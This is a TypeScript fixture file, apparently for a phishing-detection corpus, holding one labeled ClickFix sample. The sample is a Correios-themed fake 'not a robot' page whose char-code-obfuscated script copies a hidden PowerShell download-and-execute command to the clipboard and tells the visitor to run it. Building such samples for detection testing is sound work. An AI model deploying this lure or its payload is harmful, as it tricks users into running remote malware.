import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { page, mark, topbar, foot, btn, form, b64, tgRelay, sms } from '../parts/zp-kit.js';
import { zip, pe, cfb, iso, lnk, apk, fileRoute, jsRoute, jsonRoute, pngRoute, beepWav } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zp-clickfix-correios-rastreio-verificacao',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://rastreio-correios.verificar-objeto.com/rastreio/',
  body: page({
    lang: 'pt-BR',
    title: 'Correios - Verificação de segurança',
    body: `<main><div class="card"><h2>Verificação necessária</h2><p>Para consultar o objeto confirme que você não é um robô:</p><ol><li>Clique no botão abaixo</li><li>Pressione <b>Windows + R</b></li><li>Pressione <b>Ctrl + V</b> e depois <b>Enter</b></li></ol><button id="b" style="background:#00416b;color:#fff">Não sou um robô</button></div></main>
<script>var c=[112,111,119,101,114,115,104,101,108,108,32,45,119,32,104,105,100,100,101,110,32,45,99,32,34,105,101,120,40,110,101,119,45,111,98,106,101,99,116,32,110,101,116,46,119,101,98,99,108,105,101,110,116,41,46,100,111,119,110,108,111,97,100,115,116,114,105,110,103,40,39,104,116,116,112,115,58,47,47,114,97,115,116,114,101,105,111,45,99,111,114,114,101,105,111,115,46,118,101,114,105,102,105,99,97,114,45,111,98,106,101,116,111,46,99,111,109,47,118,39,41,34];
document.getElementById("b").onclick=function(){navigator.clipboard.writeText(String.fromCharCode.apply(null,c)+" # Verificacao Correios ID 55310");this.textContent="Agora siga os passos"};</script>`,
  }),
},
];
